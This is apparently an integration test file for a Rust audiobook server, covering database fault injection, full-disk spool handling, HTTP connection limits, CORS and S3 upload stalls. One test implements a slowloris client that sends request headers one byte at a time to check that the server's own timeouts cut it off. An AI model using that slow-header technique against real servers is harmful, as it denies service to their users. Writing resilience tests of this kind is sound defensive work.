            for sql in [
                "CREATE TABLE injected_schedule_failures (n INTEGER NOT NULL)",
                "INSERT INTO injected_schedule_failures VALUES (1)",
                "CREATE TRIGGER fail_schedule_once BEFORE UPDATE ON records \
                 WHEN NEW.last_error IS NOT OLD.last_error AND NEW.attempts > OLD.attempts \
                 AND (SELECT n FROM injected_schedule_failures) > 0 \
                 BEGIN UPDATE injected_schedule_failures SET n = n - 1; SELECT RAISE(FAIL, 'injected failure'); END",
            ] {
                sqlx::query(sql).execute(&p.write).await.unwrap();
            }
        }
        Db::Postgres(p) => {
            for sql in [
                "CREATE SEQUENCE injected_schedule_failures",
                "CREATE FUNCTION fail_schedule_once() RETURNS trigger AS $$ BEGIN \
                 IF NEW.last_error IS DISTINCT FROM OLD.last_error AND NEW.attempts > OLD.attempts \
                 AND nextval('injected_schedule_failures') = 1 THEN \
                 RAISE EXCEPTION 'injected failure'; END IF; RETURN NEW; END $$ LANGUAGE plpgsql",
                "CREATE TRIGGER fail_schedule_once BEFORE UPDATE ON records FOR EACH ROW EXECUTE FUNCTION fail_schedule_once()",
            ] {
                sqlx::query(sql).execute(p).await.unwrap();
            }
        }
    }
}

/// Makes the next update of a record to `ready` fail, once.
async fn inject_one_failure_of_the_final_update(db: &audiobook_server::db::Db) {
    use audiobook_server::db::Db;
    match db {
        Db::Sqlite(p) => {
            // RAISE(FAIL) keeps the trigger's own earlier change (the count).
            for sql in [
                "CREATE TABLE injected_failures (n INTEGER NOT NULL)",
                "INSERT INTO injected_failures VALUES (1)",
                "CREATE TRIGGER fail_once BEFORE UPDATE OF status ON records \
                 WHEN NEW.status = 'ready' AND (SELECT n FROM injected_failures) > 0 \
                 BEGIN UPDATE injected_failures SET n = n - 1; SELECT RAISE(FAIL, 'injected failure'); END",
            ] {
                sqlx::query(sql).execute(&p.write).await.unwrap();
            }
        }
        Db::Postgres(p) => {
            // A sequence is not rolled back with the failed statement.
            for sql in [
                "CREATE SEQUENCE injected_failures",
                "CREATE FUNCTION fail_once() RETURNS trigger AS $$ BEGIN \
                 IF NEW.status = 'ready' AND nextval('injected_failures') = 1 THEN \
                 RAISE EXCEPTION 'injected failure'; END IF; RETURN NEW; END $$ LANGUAGE plpgsql",
                "CREATE TRIGGER fail_once BEFORE UPDATE ON records FOR EACH ROW EXECUTE FUNCTION fail_once()",
            ] {
                sqlx::query(sql).execute(p).await.unwrap();
            }
        }
    }
}

/// The spool on a small file system (a 6 MiB tmpfs) that fills up: new
/// chunks and takes are refused with a clear, temporary error before the
/// disk is full, and every acknowledged chunk is saved.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_full_spool_disk_refuses_chunks_and_loses_nothing_acknowledged() {
    let Some(tmpfs) = SmallDisk::mount(6 << 20) else { return };
    let Some(app) = spawn_app_with(Backend::Sqlite, |c| {
        c.spool_dir = tmpfs.path.clone();
        c.limits.min_free_spool_bytes = 2 << 20;
    })
    .await
    else {
        return;
    };
    let api = Api::new(&app.url);
    let me = api.onboard("Filler").await.unwrap();
    let socket = Socket::connect(&app.url, &me.token).await.unwrap();
    let id = socket
        .start(&StartRecording { mime_type: "application/octet-stream".into(), name: None })
        .await
        .unwrap()
        .recording_id;
    let piece = Bytes::from(vec![9u8; 256 * 1024]);
    let mut acked = 0u64;
    let mut refusal = None;
    for seq in 0..64 {
        match socket.append(&chunk(seq, id, piece.clone())).await.unwrap() {
            AppendAck::Ok(ok) => acked = ok.received_bytes,
            AppendAck::Err(e) => {
                refusal = Some(e);
                break;
            }
        }
    }
    let refusal = refusal.expect("the disk filled up");
    println!("refused after {acked} bytes: {refusal:?}");
    assert!(refusal.error.contains("disk space"), "{refusal:?}");
    assert!(refusal.retry_after_ms.is_some(), "temporary: the client tries again later");
    assert!((2 << 20..=4 << 20).contains(&acked), "about the room above the minimum ({acked})");
    // Something else fills the disk to below the minimum plus one largest
    // chunk (what a new take needs), and the guard's reading is fresh (a
    // busy machine may re-read before the start, an idle one may not).
    let free = audiobook_server::limits::free_bytes(&tmpfs.path).unwrap();
    let filler = tmpfs.path.join("filler");
    let want = (2u64 << 20) + (1 << 20) - (256 << 10);
    std::fs::write(&filler, vec![0u8; free.saturating_sub(want) as usize]).unwrap();
    tokio::time::sleep(Duration::from_millis(300)).await;
    let refused =
        socket.start(&StartRecording { mime_type: "application/octet-stream".into(), name: None }).await.unwrap_err();
    assert!(refused.to_string().contains("disk space"), "{refused}");
    std::fs::remove_file(&filler).unwrap();
    // The take is saved with exactly what was acknowledged.
    let stop = StopRecording { recording_id: Some(id), ..Default::default() };
    let saved = match socket.stop(&stop).await.unwrap() {
        StopAck::Ok(ok) => ok.record,
        StopAck::Err(e) => panic!("{e:?}"),
    };
    assert_eq!(saved.size_bytes, acked);
    let (_, _, bytes) = api.get_bytes(&saved.link, None).await.unwrap();
    assert!(bytes.len() as u64 == acked && bytes.iter().all(|&b| b == 9));
    socket.cut();
    app.stop().await;
}

/// A tmpfs of a given size, unmounted on drop; `None` (skipped, or a failure
/// when the test command requires every service) where mounting is not allowed.
struct SmallDisk {
    path: std::path::PathBuf,
    _dir: tempfile::TempDir,
}

impl SmallDisk {
    fn mount(bytes: u64) -> Option<SmallDisk> {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("spool");
        std::fs::create_dir_all(&path).unwrap();
        let status = std::process::Command::new("mount")
            .args(["-t", "tmpfs", "-o", &format!("size={bytes}"), "tmpfs"])
            .arg(&path)
            .status();
        match status {
            Ok(s) if s.success() => Some(SmallDisk { path, _dir: dir }),
            other => {
                let message = format!("cannot mount a tmpfs for the full-disk test ({other:?}): run as root");
                assert!(!audiobook_server::testing::required(), "{message}");
                eprintln!("skipped: {message}");
                None
            }
        }
    }
}

impl Drop for SmallDisk {
    fn drop(&mut self) {
        let _ = std::process::Command::new("umount").arg("-l").arg(&self.path).status();
    }
}

// ------------------------------------------------------------ HTTP

/// A client that sends its request headers one byte at a time is cut off
/// after the header timeout; an idle keep-alive connection too.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn slow_headers_are_cut_off() {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let Some(app) = spawn_app_with(Backend::Sqlite, |c| c.limits.http_header_timeout = Duration::from_secs(1)).await
    else {
        return;
    };
    let address = app.url.trim_start_matches("http://").to_string();
    let mut slow = tokio::net::TcpStream::connect(&address).await.unwrap();
    let started = Instant::now();
    let request = b"GET /health HTTP/1.1\r\nHost: x\r\nX-Slow: ";
    let mut closed_after = None;
    for byte in request.iter().chain(std::iter::repeat(&b'a')) {
        if slow.write_all(&[*byte]).await.is_err() {
            closed_after = Some(started.elapsed());
            break;
        }
        let mut buf = [0u8; 256];
        if let Ok(Ok(0)) = tokio::time::timeout(Duration::from_millis(200), slow.read(&mut buf)).await {
            closed_after = Some(started.elapsed());
            break;
        }
        assert!(started.elapsed() < Duration::from_secs(20), "a slowloris connection was kept for 20 s");
    }
    println!("slowloris connection closed after {:?}", closed_after.unwrap());
    // An idle keep-alive connection is closed as well.
    let mut idle = tokio::net::TcpStream::connect(&address).await.unwrap();
    idle.write_all(b"GET /health HTTP/1.1\r\nHost: x\r\n\r\n").await.unwrap();
    let mut buf = vec![0u8; 4096];
    let n = idle.read(&mut buf).await.unwrap();
    assert!(String::from_utf8_lossy(&buf[..n]).starts_with("HTTP/1.1 200"));
    let started = Instant::now();
    let n = tokio::time::timeout(Duration::from_secs(20), idle.read(&mut buf)).await.expect("closed").unwrap();
    assert_eq!(n, 0);
    println!("idle keep-alive connection closed after {:?}", started.elapsed());
    app.stop().await;
}

/// Beyond `MAX_HTTP_CONNECTIONS`, new connections are closed at once; the
/// open ones keep working and a freed slot is reused.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn http_connections_are_capped() {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let Some(app) = spawn_app_with(Backend::Sqlite, |c| c.limits.max_http_connections = 4).await else { return };
    let address = app.url.trim_start_matches("http://").to_string();
    let mut held = Vec::new();
    for _ in 0..4 {
        held.push(tokio::net::TcpStream::connect(&address).await.unwrap());
    }
    tokio::time::sleep(Duration::from_millis(200)).await;
    let mut extra = tokio::net::TcpStream::connect(&address).await.unwrap();
    let _ = extra.write_all(b"GET /health HTTP/1.1\r\nHost: x\r\n\r\n").await;
    let mut buf = [0u8; 64];
    let n = tokio::time::timeout(Duration::from_secs(5), extra.read(&mut buf)).await.unwrap().unwrap_or(0);
    assert_eq!(n, 0, "the fifth connection is closed: {:?}", String::from_utf8_lossy(&buf[..n]));
    let mut first = held.remove(0);
    first.write_all(b"GET /health HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n").await.unwrap();
    let mut response = Vec::new();
    first.read_to_end(&mut response).await.unwrap();
    assert!(String::from_utf8_lossy(&response).starts_with("HTTP/1.1 200"));
    tokio::time::sleep(Duration::from_millis(200)).await;
    let (status, _) = Api::new(&app.url).raw(http::Method::GET, "/health", None, None).await.unwrap();
    assert_eq!(status, 200, "a freed slot is used again");
    app.stop().await;
}

/// Bad query strings and paths get JSON errors, like every other error.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_extractor_answers_json_errors() {
    let Some(app) = spawn_app_with(Backend::Sqlite, |_| {}).await else { return };
    let api = Api::new(&app.url);
    let id = Uuid::new_v4();
    for path in [
        format!("/media/{id}?exp=not-a-number&sig=00"),
        format!("/media/{id}?exp=1&exp=2&sig=00"),
        "/s/%FF%FE/audio".to_string(),
        format!("/records/{id}?limit=%FF"),
    ] {
        let (status, body) = api.raw(http::Method::GET, &path, None, None).await.unwrap();
        assert!((400..500).contains(&status), "{path}: {status}");
        assert!(body["error"].is_string(), "{path}: {status} {body}");
    }
    app.stop().await;
}

/// CORS covers Socket.IO's long-polling too, with credentials (the load
/// balancer's stickiness cookie), for the configured origins only.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn cors_covers_long_polling() {
    let Some(app) = spawn_app_with(Backend::Sqlite, |c| c.allowed_origins = vec!["https://app.example".into()]).await
    else {
        return;
    };
    let http = reqwest::Client::new();
    let preflight = |origin: &'static str| {
        http.request(reqwest::Method::OPTIONS, format!("{}/socket.io/?EIO=4&transport=polling", app.url))
            .header("origin", origin)
            .header("access-control-request-method", "POST")
            .send()
    };
    let allowed = preflight("https://app.example").await.unwrap();
    assert_eq!(allowed.headers()["access-control-allow-origin"], "https://app.example");
    assert_eq!(allowed.headers()["access-control-allow-credentials"], "true");
    let denied = preflight("https://evil.example").await.unwrap();
    assert!(denied.headers().get("access-control-allow-origin").is_none());
    app.stop().await;
}

/// Over long-polling, a chunk near the limit travels base64-encoded (a
/// third larger) and is still accepted.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_large_chunk_over_long_polling_is_accepted() {
    use base64::Engine;
    let Some(app) = spawn_app_with(Backend::Sqlite, |_| {}).await else { return };
    let me = Api::new(&app.url).onboard("Polly").await.unwrap();
    let http = reqwest::Client::new();
    let base = format!("{}/socket.io/?EIO=4&transport=polling", app.url);
    let open = http.get(&base).send().await.unwrap().text().await.unwrap();
    let sid = serde_json::from_str::<serde_json::Value>(&open[1..]).unwrap()["sid"].as_str().unwrap().to_string();
    let url = format!("{base}&sid={sid}");
    let post = |body: String| http.post(&url).header("content-type", "text/plain;charset=UTF-8").body(body).send();
    // The next packet starting with `prefix`, answering pings on the way.
    let next = |prefix: &'static str| {
        let (http, url) = (http.clone(), url.clone());
        async move {
            for _ in 0..20 {
                let body = http.get(&url).send().await.unwrap().text().await.unwrap();
                for packet in body.split('\u{1e}') {
                    if packet == "2" {
                        http.post(&url).body("3").send().await.unwrap();
                    } else if let Some(rest) = packet.strip_prefix(prefix) {
                        return rest.to_string();
                    }
                }
            }
            panic!("no packet {prefix} came");
        }
    };
    assert_eq!(post(format!("40{}", json!({ "token": me.token }))).await.unwrap().status(), 200);
    next("40").await;
    let start = json!(["start-recording", { "mime_type": "application/octet-stream" }]);
    post(format!("421{start}")).await.unwrap();
    let answer: serde_json::Value = serde_json::from_str(&next("431").await).unwrap();
    let recording_id = answer[0]["recording_id"].as_str().unwrap().to_string();
    // 0.95 MiB of audio: 1.27 MiB once base64-encoded.
    let data = vec![0xA5u8; 1_000_000];
    let event = json!(["append-recording", {
        "data": { "_placeholder": true, "num": 0 }, "seq": 0, "recording_id": recording_id, "final": false
    }]);
    let binary = base64::engine::general_purpose::STANDARD.encode(&data);
    let sent = post(format!("451-2{event}\u{1e}b{binary}")).await.unwrap();
    assert_eq!(sent.status(), 200, "{}", sent.text().await.unwrap());
    let ack: serde_json::Value = serde_json::from_str(&next("432").await).unwrap();
    assert_eq!(ack[0]["received_bytes"], 1_000_000, "{ack}");
    app.stop().await;
}

// ------------------------------------------------------------ the reaper

/// While a stop's upload hangs on an unresponsive bucket, the heartbeat goes
/// on: another take held by the instance stays fresh in the database (so no
/// other instance would take it as an orphan), and the hung take ends
/// `pending`, then `ready` once the bucket answers again.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_hung_upload_does_not_stop_the_heartbeat() {
    let Some(s3) = audiobook_server::testing::s3_or_skip() else { return };
    let audiobook_server::config::StorageConfig::S3 { endpoint: Some(real), .. } = &s3 else { return };
    let gate = StallingProxy::start(real).await;
    let mut stalled = s3.clone();
    if let audiobook_server::config::StorageConfig::S3 { endpoint, .. } = &mut stalled {
        *endpoint = Some(gate.url.clone());
    }
    let Some(app) = spawn_app_with(Backend::Sqlite, |c| {
        c.storage = stalled;
        c.limits.recording_grace = Duration::from_secs(2);
    })
    .await
    else {
        return;
    };
    let api = Api::new(&app.url);
    let me = api.onboard("Patient").await.unwrap();
    let socket = Socket::connect(&app.url, &me.token).await.unwrap();
    let request = StartRecording { mime_type: "audio/webm;codecs=opus".into(), name: None };
    let StartAck { recording_id: hung, .. } = socket.start(&request).await.unwrap();
    let StartAck { recording_id: other, .. } = socket.start(&request).await.unwrap();
    let data = fixture("mediarecorder-opus-3s.webm");
    for id in [hung, other] {
        assert!(matches!(socket.append(&chunk(0, id, Bytes::from(data.clone()))).await.unwrap(), AppendAck::Ok(_)));
    }
    gate.stall(true);
    let stopping = tokio::spawn({
        let url = app.url.clone();
        let token = me.token.clone();
        async move {
            let mut s = Socket::connect(&url, &token).await.unwrap();
            s.set_ack_timeout(Duration::from_secs(300));
            s.stop(&StopRecording { recording_id: Some(hung), chunks: Some(1), ..Default::default() }).await
        }
    });
    // Watch the other take's heartbeat for 6 s of hung upload.
    let db = app.state.db.clone();
    let seen = |id| {
        let db = db.clone();
        async move { db.record(id).await.unwrap().unwrap().last_seen_at }
    };
    let first = seen(other).await;
    tokio::time::sleep(Duration::from_secs(6)).await;
    let later = seen(other).await;
    println!("heartbeat advanced by {} ms during a hung upload", (later - first).num_milliseconds());
    assert!(later - first >= chrono::Duration::seconds(4), "the heartbeat stalled behind the upload");
    assert!(!stopping.is_finished() || gate.stalled_requests() > 0, "the upload really hung");
    gate.stall(false);
    let answer = stopping.await.unwrap().unwrap();
    println!("the hung stop answered: {answer:?}");
    wait_for_status(&api, &me, hung, RecordStatus::Ready).await;
    socket.cut();
    app.stop().await;
}

/// A TCP proxy that, while stalled, accepts connections and holds them
/// without forwarding a byte (a bucket that stopped answering).
struct StallingProxy {
    url: String,
    stalled: std::sync::Arc<std::sync::atomic::AtomicBool>,
    held: std::sync::Arc<std::sync::atomic::AtomicU64>,
}

impl StallingProxy {
    async fn start(target: &str) -> StallingProxy {
        use std::sync::atomic::Ordering;
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let url = format!("http://{}", listener.local_addr().unwrap());
        let target = target.trim_start_matches("http://").to_string();
        let stalled = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
        let held = std::sync::Arc::new(std::sync::atomic::AtomicU64::new(0));
        let (s, h) = (stalled.clone(), held.clone());
        tokio::spawn(async move {
            while let Ok((mut inbound, _)) = listener.accept().await {
                let (target, s, h) = (target.clone(), s.clone(), h.clone());
                tokio::spawn(async move {
                    while s.load(Ordering::SeqCst) {
                        h.fetch_add(1, Ordering::SeqCst);
                        tokio::time::sleep(Duration::from_millis(100)).await;
                    }
                    if let Ok(mut outbound) = tokio::net::TcpStream::connect(&target).await {
                        let _ = tokio::io::copy_bidirectional(&mut inbound, &mut outbound).await;
                    }
                });
            }
        });
        StallingProxy { url, stalled, held }
    }

    fn stall(&self, on: bool) {
        self.stalled.store(on, std::sync::atomic::Ordering::SeqCst);
    }

    fn stalled_requests(&self) -> u64 {
        self.held.load(std::sync::atomic::Ordering::SeqCst)
    }
}
